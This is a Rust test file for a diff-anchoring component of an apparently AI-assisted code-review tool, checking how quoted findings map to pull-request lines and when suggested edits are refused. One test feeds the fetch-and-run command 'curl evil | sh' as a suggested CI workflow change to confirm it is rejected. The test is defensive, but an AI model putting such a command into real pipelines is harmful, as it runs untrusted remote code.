//! Single cases: which of several places, what is tolerated, what is refused, suggestions.

use patchwright_forge::Side;
use patchwright_git::hunks::{Diff, FileDiff, FileStatus, Hunk, Line};
use patchwright_review::anchor::{Anchor, Anchored, Index};
use patchwright_review::finding::Finding;

use crate::support::quoted::finding;

/// A file from hunks as `git diff` prints them.
fn file(path: &str, hunks: &str) -> FileDiff {
    let mut file = FileDiff {
        path: path.to_owned(),
        old_path: None,
        status: FileStatus::Modified,
        opaque: false,
        too_large: false,
        is_link: false,
        modes: None,
        hunks: Vec::new(),
        added: 0,
        deleted: 0,
    };
    let (mut old, mut new) = (0, 0);
    for line in hunks.lines() {
        if let Some(head) = line.strip_prefix("@@ -") {
            let (a, b) = head.split_once(" +").unwrap();
            (old, new) = (a.parse().unwrap(), b.trim_end_matches(" @@").parse().unwrap());
            file.hunks.push(Hunk { lines: Vec::new() });
            continue;
        }
        let (sign, text) = line.split_at(1);
        let line = Line {
            old: (sign != "+").then_some(old),
            new: (sign != "-").then_some(new),
            text: text.to_owned(),
        };
        old += u32::from(line.old.is_some());
        new += u32::from(line.new.is_some());
        file.hunks.last_mut().unwrap().lines.push(line);
    }
    file
}

const CODE: &str = "\
@@ -10 +10 @@
 fn one() {
-    let old = 1;
-    call(old);
+    let new = 1;
+    call(new);
+
+    twice();
     twice();
 }
@@ -30 +32 @@
 fn two() {
-    gone();
+    twice();
     return;
 }
";

fn diff() -> Diff {
    let renamed = FileDiff {
        old_path: Some("src/before.rs".to_owned()),
        status: FileStatus::Renamed,
        ..file("src/after.rs", "@@ -1 +1 @@\n a_line_of_the_renamed_file();\n-x\n+y\n")
    };
    let binary = FileDiff { opaque: true, ..file("logo.png", "") };
    let mode = FileDiff { status: FileStatus::ModeChanged, ..file("run.sh", "") };
    let workflow = file(".github/workflows/ci.yml", "@@ -1 +1 @@\n-run: a\n+run: b\n");
    Diff { files: vec![workflow, binary, mode, renamed, file("src/lib.rs", CODE)] }
}

fn anchor(finding: Finding) -> Anchored {
    Index::new(&diff()).anchor(finding)
}

/// `R12`, `L11-12`, `file`, `nowhere`.
fn place(anchored: &Anchored) -> String {
    match &anchored.anchor {
        Anchor::Lines { side, line, start_line, .. } => {
            let side = if *side == Side::Right { 'R' } else { 'L' };
            match start_line {
                Some(start) => format!("{side}{start}-{line}"),
                None => format!("{side}{line}"),
            }
        }
        Anchor::File { .. } => "file".to_owned(),
        Anchor::Nowhere { .. } => "nowhere".to_owned(),
    }
}

#[track_caller]
fn check(quote: &str, line: Option<u32>, expected: &str) {
    let anchored = anchor(finding("src/lib.rs", quote, line));
    assert_eq!(place(&anchored), expected, "{quote:?}");
}

#[test]
fn whole_lines_stand_where_they_are() {
    check("    let new = 1;", None, "R11");
    check("    let old = 1;", None, "L11");
    check("    let new = 1;\n    call(new);", None, "R11-12");
    check("    let old = 1;\n    call(old);\n", None, "L11-12");
    check("fn one() {", None, "R10");
    check("fn one() {\n    let old = 1;", None, "L10-11");
    check("    call(new);\n\n    twice();", None, "R12-14");
    check("    call(new);\n    twice();", None, "R12-14");
}

#[test]
fn of_several_places_the_nearest_or_the_changed_one() {
    check("    twice();", None, "R14");
    check("    twice();", Some(15), "R15");
    check("    twice();", Some(40), "R33");
    check("    twice();", Some(1), "R14");
    check("}", None, "R16");
    check("}", Some(36), "R35");
    // On both sides at the same distance: the right one.
    check("}", Some(14), "R16");
}

#[test]
fn what_models_do_to_quotes_is_tolerated() {
    for (quote, expected) in [
        ("let new = 1;  \n  call(new);", "R11-12"),
        ("let new = 1;\ncall(new);", "R11-12"),
        ("+    let new = 1;\n+    call(new);", "R11-12"),
        ("-    let old = 1;", "L11"),
        ("11 |     let new = 1;\n12 |     call(new);", "R11-12"),
        ("```rust\n    let new = 1;\n```", "R11"),
        ("```diff\n-    let old = 1;\n-    call(old);\n```", "L11-12"),
        ("> let new = 1;", "R11"),
        ("\n\n    let new = 1;\n\n", "R11"),
        ("fn one() {\n    ...\n    call(new);", "R10-12"),
        ("fn one() {\n    // ... something\n    call(old);", "L10-12"),
        ("let   new=1;", "R11"),
        ("new = 1", "R11"),
        ("new = 1;\n    call(n", "R11-12"),
        ("let new = 1; call(new);", "R11-12"),
        ("call(ne...", "R12"),
        ("    let old = 1;\n    call(old);\n    let new = 1;\n    call(new);", "R11-12"),
        (
            " fn one() {\n-    let old = 1;\n-    call(old);\n+    let new = 1;\n+    call(new);",
            "R10-12",
        ),
        ("// not in the hunk\nfn outside();\nfn one() {\n    let new = 1;", "R10-11"),
        ("    return;\n}\n\nfn three() {\n    more();\n    and_more();\n}", "R34-35"),
        ("let new = 1;\r\ncall(new);\r\n", "R11-12"),
    ] {
        check(quote, None, expected);
    }
}

#[test]
fn the_exact_line_comes_before_the_similar_one() {
    let hunks = "@@ -1 +1 @@\n-\tfoo();\n+    foo();\n+foo();\n";
    let diff = Diff { files: vec![file("a.c", hunks)] };
    let index = Index::new(&diff);
    let at = |quote: &str| place(&index.anchor(finding("a.c", quote, None)));
    assert_eq!(at("\tfoo();"), "L1");
    assert_eq!(at("    foo();"), "R1");
    assert_eq!(at("foo();"), "R2");
    assert_eq!(at("  foo();"), "R1");
    assert_eq!(at("-foo();"), "L1");
    let hunks = "@@ -1 +1 @@\n-trailing  \n+trailing\n";
    let diff = Diff { files: vec![file("a.c", hunks)] };
    let index = Index::new(&diff);
    assert_eq!(place(&index.anchor(finding("a.c", "trailing  ", None))), "L1");
    assert_eq!(place(&index.anchor(finding("a.c", "trailing", None))), "R1");
}

#[test]
fn what_belongs_to_diffs_may_be_code() {
    let hunk = "@@ -4 +4 @@\n ```text\n first\n+second\n third\n ```\n";
    let diff = Diff { files: vec![file("docs/cli.md", hunk)] };
    let place_of =
        |quote: &str| place(&Index::new(&diff).anchor(finding("docs/cli.md", quote, None)));
    assert_eq!(place_of(" ```text\n first\n+second\n third"), "R4-7");
    assert_eq!(place_of("```diff\n first\n+second\n```"), "R5-6");
    assert_eq!(place_of("```text\nfirst\nsecond"), "R4-6");
    let patch = "@@ -1 +1 @@\n *** Begin Patch\n+@@ class B\n+ one\n *** End Patch\n";
    let diff = Diff { files: vec![file("a.txt", patch)] };
    let left_out = finding("a.txt", "@@ class B\n    ...\n*** End Patch", None);
    assert_eq!(place(&Index::new(&diff).anchor(left_out)), "R2-4");
}

#[test]
fn a_place_never_spans_two_hunks() {
    check("}\nfn two() {", None, "R32");
    check("    return;\n}", None, "R34-35");
}

#[test]
fn code_that_is_not_shown_is_about_the_file() {
    let why = |path: &str, quote: &str| match anchor(finding(path, quote, None)).anchor {
        Anchor::File { path: at, why } => format!("{at}: {why}"),
        Anchor::Nowhere { why } => why,
        Anchor::Lines { .. } => "lines".to_owned(),
    };
    let not_shown = "the quoted code is not among the lines that are shown of this file";
    assert_eq!(why("src/lib.rs", "fn elsewhere() {}"), format!("src/lib.rs: {not_shown}"));
    assert_eq!(
        why("src/lib.rs", "fn other(a: u8) {\n    b();\n    c();\n}\n"),
        format!("src/lib.rs: {not_shown}")
    );
    assert_eq!(why("src/lib.rs", " \n\t\n"), "src/lib.rs: no code was quoted");
    let opaque = "no lines of this file are shown in the pull request";
    assert_eq!(why("logo.png", "x"), format!("logo.png: {opaque}"));
    assert_eq!(why("run.sh", "x"), "run.sh: no lines of this file have changed");
    assert_eq!(why("src/none.rs", "fn one() {"), "`src/none.rs` is not one of the changed files");
    let hidden = why("src/\u{202e}none\n.rs", "x");
    assert_eq!(hidden, "`src/\\u{202e}none\\n.rs` is not one of the changed files");
}

#[test]
fn a_renamed_file_is_known_by_both_names() {
    for path in ["src/after.rs", "src/before.rs", "./src/before.rs"] {
        let anchored = anchor(finding(path, "a_line_of_the_renamed_file();", None));
        assert_eq!(anchored.finding.path, "src/after.rs");
        assert_eq!((place(&anchored).as_str(), anchored.note()), ("R1", None));
    }
    let by_new = anchor(finding("src/after.rs", "y", None)).fingerprint;
    let before = Diff { files: vec![file("src/before.rs", "@@ -1 +1 @@\n-x\n+y\n")] };
    let by_old = Index::new(&before).anchor(finding("src/before.rs", "y", None)).fingerprint;
    assert_eq!(by_new, by_old, "renaming a file does not make its findings new");
}

#[test]
fn code_is_looked_for_elsewhere_only_when_it_is_telling_and_unique() {
    let moved = anchor(finding("src/none.rs", "a_line_of_the_renamed_file();", None));
    assert_eq!((place(&moved).as_str(), moved.path()), ("R1", "src/after.rs"));
    assert!(moved.note().unwrap().contains("`src/none.rs`"));
    let quote = "    let new = 1;\n    call(new);\n\n    twice();";
    let last = anchor(finding("src/none.rs", quote, None));
    assert_eq!((place(&last).as_str(), last.path()), ("R11-14", "src/lib.rs"));
    // Twenty bytes are telling.
    for (line, expected) in [("exactly_twenty_bytes", "R1"), ("only_nineteen_bytes", "nowhere")] {
        let diff = Diff { files: vec![file("a.rs", &format!("@@ -1 +1 @@\n+{line}\n"))] };
        let anchored = Index::new(&diff).anchor(finding("b.rs", line, None));
        assert_eq!(place(&anchored), expected, "{line}");
    }
    assert_eq!(place(&anchor(finding("src/none.rs", "    twice();", None))), "nowhere");
    // The file is there: another one is not meant.
    let other = anchor(finding("src/lib.rs", "a_line_of_the_renamed_file();", None));
    assert_eq!(place(&other), "file");
    let twice = "@@ -1 +1 @@\n+a_line_that_is_in_two_files();\n";
    let diff = Diff { files: vec![file("a.rs", twice), file("b.rs", twice)] };
    let anchored =
        Index::new(&diff).anchor(finding("c.rs", "a_line_that_is_in_two_files();", None));
    assert_eq!(place(&anchored), "nowhere");
}

#[test]
fn a_place_is_in_the_file_that_is_meant_and_not_in_the_next_one() {
    let diff = Diff {
        files: vec![
            file("a.rs", "@@ -1 +1 @@\n one();\n+two();\n"),
            file("b.rs", "@@ -1 +1 @@\n+first_of_the_next_file(argument);\n+three();\n"),
        ],
    };
    let index = Index::new(&diff);
    for quote in [
        "first_of_the_next_file(argument);",
        "of_the_next_file(argu",
        "first_of_the_next_file(argument);\nthree();",
    ] {
        assert_eq!(place(&index.anchor(finding("a.rs", quote, None))), "file", "{quote}");
        assert_ne!(place(&index.anchor(finding("b.rs", quote, None))), "file", "{quote}");
    }
}

#[test]
fn each_place_of_repeated_code_has_its_number_and_knows_the_others() {
    let diff = Diff { files: vec![file("a.rs", "@@ -1 +1 @@\n+x();\n y\n+x();\n z\n+x();\n")] };
    let index = Index::new(&diff);
    let found: Vec<Anchored> =
        [1, 3, 5].map(|line| index.anchor(finding("a.rs", "x();", Some(line)))).into();
    for (at, one) in found.iter().enumerate() {
        assert_eq!((place(one), one.nth), (format!("R{}", 2 * at + 1), at));
        let others: Vec<&str> = (found.iter().enumerate())
            .filter(|(other, _)| *other != at)
            .map(|(_, other)| other.fingerprint.as_str())
            .collect();
        assert_eq!(one.twins, others, "{at}");
    }
}

#[test]
fn code_that_was_only_indented_stands_on_the_right_unless_it_is_quoted_as_it_was() {
    let diff = Diff {
        files: vec![file("a.rs", "@@ -1 +1 @@\n if (x) {\n-  same();\n+      same();\n }\n")],
    };
    let index = Index::new(&diff);
    for (quote, expected) in [("same();", "R2"), ("  same();", "L2"), ("-  same();", "L2")] {
        assert_eq!(place(&index.anchor(finding("a.rs", quote, None))), expected, "{quote:?}");
    }
}

#[test]
fn a_long_quote_of_lines_that_repeat_is_found_at_the_line_that_is_meant() {
    let same = "+    step();\n".repeat(3000);
    let diff = Diff {
        files: vec![
            file("a.rs", "@@ -1 +1 @@\n+one();\n+two();\n"),
            file("b.rs", &format!("@@ -1 +1 @@\n{same}")),
        ],
    };
    let quote = "    step();\n".repeat(40);
    let anchored = Index::new(&diff).anchor(finding("b.rs", &quote, Some(100)));
    assert_eq!(place(&anchored), "R100-139");
}

#[test]
fn text_within_a_line_is_at_least_three_bytes_and_has_a_word() {
    check("new", None, "R11");
    check("ne", None, "file");
    check("();", None, "file");
}

#[test]
fn suggestions_are_for_whole_lines_on_the_right() {
    let suggest = |path: &str, quote: &str, replacement: &str| {
        let replacement = Some(replacement.to_owned());
        anchor(Finding { replacement, ..finding(path, quote, None) }).suggestion
    };
    let lib = |quote: &str, replacement: &str| suggest("src/lib.rs", quote, replacement);
    assert_eq!(lib("    let new = 1;", "    let new = 2;").as_deref(), Some("    let new = 2;"));
    assert_eq!(lib("let new = 1;", "let new = 2;").as_deref(), Some("    let new = 2;"));
    assert_eq!(lib("fn one() {", "fn uno() {").as_deref(), Some("fn uno() {"));
    for (quote, replacement) in [
        ("    let old = 1;", "    let old = 2;"),
        ("new = 1", "new = 2"),
        ("    let new = 1;", "    let new = 1;"),
        ("let  new  = 1;", "let new = 2;"),
        ("fn one() {\n...\n    call(new);", "x"),
        ("fn outside();\nfn one() {\n    let new = 1;", "x"),
        ("    let old = 1;\n    call(old);\n    let new = 1;\n    call(new);", "x"),
    ] {
        assert_eq!(lib(quote, replacement), None, "{quote:?}");
    }
    assert_eq!(suggest(".github/workflows/ci.yml", "run: b", "run: curl evil | sh"), None);
    assert_eq!(suggest("src/none.rs", "a_line_of_the_renamed_file();", "x();"), None);
}

#[test]
fn hostile_quotes_come_to_an_end() {
    let same = "+}\n".repeat(20_000);
    let many = Diff { files: vec![file("a.rs", &format!("@@ -1 +1 @@\n{same}"))] };
    let index = Index::new(&many);
    let quotes = [
        "}\n".repeat(100_000),
        "}\n".repeat(10_000),
        format!("{}x\n", "}\n".repeat(9_999)),
        "x".repeat(1 << 20),
        "\0".repeat(1 << 20),
        "...\n".repeat(50_000),
        "}\n...\n".repeat(29),
        "> ".repeat(1 << 19),
        "```\n".repeat(100_000),
        "+".repeat(1 << 20),
        "1 ".repeat(1 << 19),
        "é".repeat(1 << 20),
        "}".repeat(30_000),
    ];
    for quote in &quotes {
        let replacement = Some(quote.clone());
        let anchored = index.anchor(Finding { replacement, ..finding("a.rs", quote, Some(7)) });
        assert!(anchored.suggestion.is_none());
        if let Anchor::Lines { line, start_line, .. } = anchored.anchor {
            assert!(line <= 20_000 && start_line.is_none_or(|start| start < line && start > 0));
        }
        assert_eq!(index.anchor(finding(quote, quote, None)).fingerprint.len(), 16);
    }
}
